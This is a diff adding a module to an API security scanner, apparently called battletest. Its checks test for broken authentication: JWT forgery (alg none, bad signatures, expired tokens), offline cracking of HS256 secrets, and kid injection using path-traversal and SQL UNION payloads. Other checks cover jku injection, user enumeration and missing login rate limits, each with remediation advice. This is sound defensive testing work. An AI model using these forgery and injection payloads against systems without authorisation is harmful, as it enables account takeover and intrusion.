@@ -1,0 +1,387 @@
+"""Broken authentication (API2:2023): missing token, forged JWTs (bad signature, ``alg:none``,
+expired, cracked HS256 secret, ``kid``/``jku`` injection), user enumeration, no lockout."""
+
+from __future__ import annotations
+
+import re
+import time
+from typing import Any
+
+from battletest.results import Severity
+from battletest.security import jwtutil
+from battletest.security.checks.common import is_secured_get, readable, secured, signature
+from battletest.security.context import ScanContext
+from battletest.security.framework import Outcome, Scanner
+from battletest.security.http import Exchange
+from battletest.security.identity import ScanIdentity
+from battletest.security.model import Operation
+
+_LOCKED = re.compile(r"too many|locked|try again later|rate limit", re.I)
+
+JWT_REMEDIATION = (
+    "Verify every token with a fixed algorithm allow-list and the server's own key; reject "
+    "'none', expired tokens, and keys chosen by the token's header (kid/jku)."
+)
+
+
+def _anonymous_ok(ctx: ScanContext, path: str) -> bool:
+    cache: dict[str, bool] = ctx.state.setdefault("anonymous_ok", {})
+    if path not in cache:
+        cache[path] = ctx.send("GET", path).ok
+    return cache[path]
+
+
+def _forged(ctx: ScanContext, op: Operation, forge: Any, what: str) -> Outcome:
+    """Differential probe: valid token accepted, no token rejected, forged token accepted?"""
+    holders = [i for i in ctx.identities if i.jwt]
+    if not holders:
+        return Outcome.inconclusive("no identity carries a JWT (give one a token or a login)")
+    reason = f"no object id known for {', '.join(op.path_params)}"
+    for who in holders:
+        token = jwtutil.Jwt.parse(who.jwt or "")
+        path = ctx.fill(op, who)
+        if token is None or path is None:
+            continue
+        base = ctx.send("GET", path, who)
+        if base.ok:
+            break
+        reason = f"no identity's valid token is accepted (HTTP {base.status})"
+    else:
+        return Outcome.inconclusive(reason)
+    if _anonymous_ok(ctx, path):
+        return Outcome.inconclusive("answers without any token (see auth-missing)")
+    forged = forge(token)
+    if forged is None:
+        return Outcome.inconclusive(f"cannot forge a token {what}: signing key unknown")
+    headers = {"Authorization": f"Bearer {forged}"}
+    ex = ctx.send("GET", path, headers=headers)
+    if ex.ok and ctx.send("GET", path, headers=headers).ok:
+        return Outcome.found(
+            ctx.finding(op, ex, parameter="Authorization", note=f"token {what} accepted")
+        )
+    return Outcome.clean()
+
+
+def _signing_key(ctx: ScanContext) -> str | None:
+    cracked = ctx.state.get("jwt_cracked")
+    return ctx.settings.jwt_secret or (cracked if isinstance(cracked, str) else None)
+
+
+def _probe_op(ctx: ScanContext) -> tuple[Operation, str, ScanIdentity] | None:
+    """A secured GET the JWT identity can read and that refuses anonymous callers."""
+    who = ctx.jwt_identity()
+    if who is None:
+        return None
+    for op, _, _ in readable(ctx):
+        if not secured(ctx, op):
+            continue
+        path = ctx.fill(op, who)
+        if path and ctx.send("GET", path, who).ok and not _anonymous_ok(ctx, path):
+            return op, path, who
+    return None
+
+
+def register(scanner: Scanner) -> None:
+    @scanner.check(
+        id="auth-missing",
+        title="Secured operation answers without credentials",
+        owasp="API2:2023",
+        cwe="CWE-306",
+        severity=Severity.HIGH,
+        group="authn",
+        applies=is_secured_get,
+        phase=15,
+        remediation="Require authentication on every operation the spec declares secured.",
+    )
+    def auth_missing(ctx: ScanContext, op: Operation | None) -> Outcome:
+        """Calls each secured GET operation without any credential; reported when it answers
+        2xx twice."""
+        assert op is not None
+        who = next((i for i in ctx.identities if ctx.fill(op, i)), None)
+        path = ctx.fill(op, who) if who else (None if op.path_params else op.path)
+        if path is None:
+            return Outcome.inconclusive(f"no object id known for {', '.join(op.path_params)}")
+        ex = ctx.send("GET", path)
+        if ex.ok and ctx.send("GET", path).ok:
+            return Outcome.found(ctx.finding(op, ex, note="no Authorization header, no cookie"))
+        return Outcome.clean()
+
+    common: dict[str, Any] = {
+        "owasp": "API2:2023",
+        "group": "jwt",
+        "applies": is_secured_get,
+        "phase": 16,
+        "remediation": JWT_REMEDIATION,
+    }
+
+    @scanner.check(
+        id="jwt-bad-signature",
+        title="JWT with an invalid signature accepted",
+        cwe="CWE-347",
+        severity=Severity.CRITICAL,
+        **common,
+    )
+    def bad_signature(ctx: ScanContext, op: Operation | None) -> Outcome:
+        """Flips bits in the identity's JWT signature; reported when the operation still
+        answers 2xx (twice) while it refuses anonymous calls."""
+        assert op is not None
+        return _forged(ctx, op, lambda t: jwtutil.bad_signature(t.raw), "with a bad signature")
+
+    @scanner.check(
+        id="jwt-alg-none",
+        title="Unsigned JWT (alg: none) accepted",
+        cwe="CWE-347",
+        severity=Severity.CRITICAL,
+        **common,
+    )
+    def alg_none(ctx: ScanContext, op: Operation | None) -> Outcome:
+        """Re-sends the identity's claims with ``alg`` set to none (and case variants at
+        deeper depths) and an empty signature."""
+        assert op is not None
+        variants = ["none", "None", "NONE", "nOnE"][: {"basic": 2}.get(ctx.settings.depth, 4)]
+        outcome = Outcome.clean()
+        for variant in variants:
+            outcome = _forged(
+                ctx, op, lambda t, v=variant: jwtutil.alg_none(t, v), f"with alg {variant}"
+            )
+            if outcome.findings or not outcome.conclusive:
+                return outcome
+        return outcome
+
+    @scanner.check(
+        id="jwt-expired",
+        title="Expired JWT accepted",
+        cwe="CWE-613",
+        severity=Severity.HIGH,
+        **common,
+    )
+    def expired(ctx: ScanContext, op: Operation | None) -> Outcome:
+        """Re-signs the identity's claims with ``exp`` an hour in the past, using the
+        configured ``jwt_secret`` or a secret cracked by jwt-weak-secret."""
+        assert op is not None
+        key = _signing_key(ctx)
+
+        def forge(t: jwtutil.Jwt) -> str | None:
+            if key is None or not t.alg.startswith("HS"):
+                return None
+            now = int(time.time())
+            claims = {**t.claims, "exp": now - 3600, "iat": now - 7200}
+            claims.pop("nbf", None)
+            return jwtutil.sign_hmac(t.header, claims, key.encode())
+
+        return _forged(ctx, op, forge, "expired an hour ago")
+
+    @scanner.check(
+        id="jwt-weak-secret",
+        title="JWT signing secret cracked offline",
+        owasp="API2:2023",
+        cwe="CWE-521",
+        severity=Severity.CRITICAL,
+        group="jwt",
+        phase=5,
+        remediation="Sign tokens with a random key of at least 256 bits kept in a secret store.",
+    )
+    def weak_secret(ctx: ScanContext, op: Operation | None) -> Outcome:
+        """Tries the shipped wordlist of weak secrets against the captured token's HMAC offline
+        (no request), then proves the secret by minting a fresh token the target accepts."""
+        who = ctx.jwt_identity()
+        token = jwtutil.Jwt.parse(who.jwt) if who and who.jwt else None
+        if token is None:
+            return Outcome.inconclusive("no identity carries a JWT (give one a token or a login)")
+        if not token.alg.startswith("HS"):
+            return Outcome.clean(f"{token.alg} tokens cannot be cracked offline")
+        words = jwtutil.wordlist(ctx.settings.budget.jwt_wordlist)
+        secret = jwtutil.crack(token, words)
+        if secret is None:
+            return Outcome.clean(f"not among {len(words)} weak secrets")
+        ctx.state["jwt_cracked"] = secret
+        now = int(time.time())
+        claims = {**token.claims, "iat": now, "exp": now + 600, "jti": "battletest"}
+        minted = jwtutil.sign_hmac(token.header, claims, secret.encode())
+        probe = _probe_op(ctx)
+        ex = (
+            ctx.send("GET", probe[1], headers={"Authorization": f"Bearer {minted}"})
+            if probe
+            else None
+        )
+        hint = f"{secret[:2]}… ({len(secret)} characters, wordlist entry {words.index(secret) + 1})"
+        note = f"HS secret found offline: {hint}"
+        if ex is not None and ex.ok:
+            note += "; a token minted with it was accepted"
+        return Outcome.found(
+            ctx.finding(probe[0] if probe else None, ex, parameter="signing key", note=note)
+        )
+
+    @scanner.check(
+        id="jwt-kid-injection",
+        title="JWT key chosen by an injected kid header",
+        owasp="API2:2023",
+        cwe="CWE-347",
+        severity=Severity.CRITICAL,
+        group="jwt",
+        phase=17,
+        remediation=JWT_REMEDIATION,
+    )
+    def kid_injection(ctx: ScanContext, op: Operation | None) -> Outcome:
+        """Signs the claims with an empty key and ``kid`` pointing at /dev/null (path
+        traversal), and at deeper depths with a key selected by SQL in ``kid``."""
+        probe = _probe_op(ctx)
+        who = ctx.jwt_identity()
+        token = jwtutil.Jwt.parse(who.jwt) if who and who.jwt else None
+        if probe is None or token is None:
+            return Outcome.inconclusive("no secured GET the JWT identity can read")
+        variants = [("../" * 8 + "dev/null", b"")]
+        if ctx.settings.depth != "basic":
+            variants.append(("x' UNION SELECT 'battletest'-- ", b"battletest"))
+        for kid, key in variants:
+            header = {**token.header, "alg": "HS256", "kid": kid}
+            forged = jwtutil.sign_hmac(header, token.claims, key)
+            headers = {"Authorization": f"Bearer {forged}"}
+            ex = ctx.send("GET", probe[1], headers=headers)
+            if ex.ok and ctx.send("GET", probe[1], headers=headers).ok:
+                return Outcome.found(
+                    ctx.finding(probe[0], ex, parameter="kid", note=f"kid={kid!r} accepted")
+                )
+        return Outcome.clean()
+
+    @scanner.check(
+        id="jwt-jku-injection",
+        title="JWT verified with a key fetched from an attacker URL (jku)",
+        owasp="API2:2023",
+        cwe="CWE-347",
+        severity=Severity.CRITICAL,
+        group="jwt",
+        phase=17,
+        remediation=JWT_REMEDIATION,
+    )
+    def jku_injection(ctx: ScanContext, op: Operation | None) -> Outcome:
+        """Signs the claims with a fresh RSA key and points ``jku`` at a JWKS served by the
+        scanner's loopback canary; reported when the canary is fetched and the token accepted."""
+        probe = _probe_op(ctx)
+        who = ctx.jwt_identity()
+        token = jwtutil.Jwt.parse(who.jwt) if who and who.jwt else None
+        if probe is None or token is None:
+            return Outcome.inconclusive("no secured GET the JWT identity can read")
+        key = jwtutil.RsaKey()
+        path = f"/jwks-{ctx.rng.randrange(10**9)}.json"
+        url = ctx.canary().serve(path, key.jwks())
+        forged = key.sign({"typ": "JWT", "jku": url}, token.claims)
+        ex = ctx.send("GET", probe[1], headers={"Authorization": f"Bearer {forged}"})
+        hits = ctx.canary().hits_for(path)
+        if ex.ok and hits:
+            return Outcome.found(
+                ctx.finding(
+                    probe[0],
+                    ex,
+                    parameter="jku",
+                    note=f"target fetched {url} and accepted the token",
+                )
+            )
+        return Outcome.clean("canary fetched but token refused" if hits else "")
+
+    @scanner.check(
+        id="user-enumeration",
+        title="Login or reset answers reveal which accounts exist",
+        owasp="API2:2023",
+        cwe="CWE-204",
+        severity=Severity.MEDIUM,
+        group="authn",
+        phase=60,
+        remediation="Answer unknown and known accounts identically (status, body, timing).",
+    )
+    def user_enumeration(ctx: ScanContext, op: Operation | None) -> Outcome:
+        """Sends a wrong password for a known and an unknown account (and a reset for both),
+        twice each; reported when the two kinds of answers differ consistently."""
+        known = next((i for i in ctx.identities if i.username), None)
+        login, reset = ctx.login_op(), ctx.reset_op()
+        if login is None and reset is None:
+            return Outcome.clean("no login or reset operation in the spec")
+        if known is None or known.username is None:
+            return Outcome.inconclusive("no identity with a username to compare against")
+        unknown = f"battletest-nobody-{ctx.rng.randrange(10**6)}"
+        if "@" in known.username:
+            unknown += "@example.com"
+        lg = ctx.settings.login
+        findings = []
+        probes: list[tuple[Operation, str, Any]] = []
+        if login is not None:
+            probes.append(
+                (
+                    login,
+                    "login",
+                    lambda u: {lg.username_field: u, lg.password_field: "battletest-Wrong-1"},
+                )
+            )
+        if reset is not None:
+            probes.append((reset[0], "reset", lambda u, f=reset[1]: {f: u}))
+        for target, kind, body in probes:
+            a = [ctx.send("POST", target.path, json_body=body(known.username)) for _ in range(2)]
+            b = [ctx.send("POST", target.path, json_body=body(unknown)) for _ in range(2)]
+            words = (known.username, unknown)
+            sa, sb = {signature(x, *words) for x in a}, {signature(x, *words) for x in b}
+            if len(sa) == 1 and len(sb) == 1 and sa != sb:
+                findings.append(
+                    ctx.finding(
+                        target,
+                        a[0],
+                        parameter=kind,
+                        note=f"known account: HTTP {a[0].status}; unknown account: HTTP "
+                        f"{b[0].status} {b[0].text[:120]!r}",
+                    )
+                )
+        return Outcome.found(*findings)
+
+    @scanner.check(
+        id="login-rate-limit",
+        title="No lockout or rate limit on login or password reset",
+        owasp="API2:2023",
+        cwe="CWE-307",
+        severity=Severity.MEDIUM,
+        group="authn",
+        phase=95,
+        remediation="Throttle failed logins and resets per account and per client (429 with "
+        "Retry-After) and lock accounts after repeated failures.",
+    )
+    def login_rate_limit(ctx: ScanContext, op: Operation | None) -> Outcome:
+        """Sends a bounded burst (at most 100, by depth) of wrong passwords for one account,
+        and of reset requests, stopping at the first 429/423 or lockout message; reported when
+        the whole burst is answered as ordinary failures."""
+        known = next((i for i in ctx.identities if i.username), None)
+        login, reset = ctx.login_op(), ctx.reset_op()
+        if login is None and reset is None:
+            return Outcome.clean("no login or reset operation in the spec")
+        user = known.username if known and known.username else "battletest-user"
+        lg = ctx.settings.login
+        n = ctx.settings.burst_size
+        findings = []
+        targets: list[tuple[Operation, str, dict[str, Any]]] = []
+        if login is not None:
+            targets.append(
+                (login, "login", {lg.username_field: user, lg.password_field: "battletest-Wrong-1"})
+            )
+        if reset is not None:
+            targets.append((reset[0], "reset", {reset[1]: user}))
+        for target, kind, body in targets:
+            last: Exchange | None = None
+            limited = False
+            for _ in range(n):
+                last = ctx.send("POST", target.path, json_body=body)
+                if (
+                    last.status in (423, 429)
+                    or last.header("retry-after")
+                    or _LOCKED.search(last.text)
+                ):
+                    limited = True
+                    break
+                if kind == "login" and last.ok:
+                    return Outcome.inconclusive("a wrong password was accepted at login")
+            if not limited and last is not None:
+                findings.append(
+                    ctx.finding(
+                        target,
+                        last,
+                        parameter=kind,
+                        note=f"{n} requests in a row, none throttled or locked out",
+                    )
+                )
+        return Outcome.found(*findings)
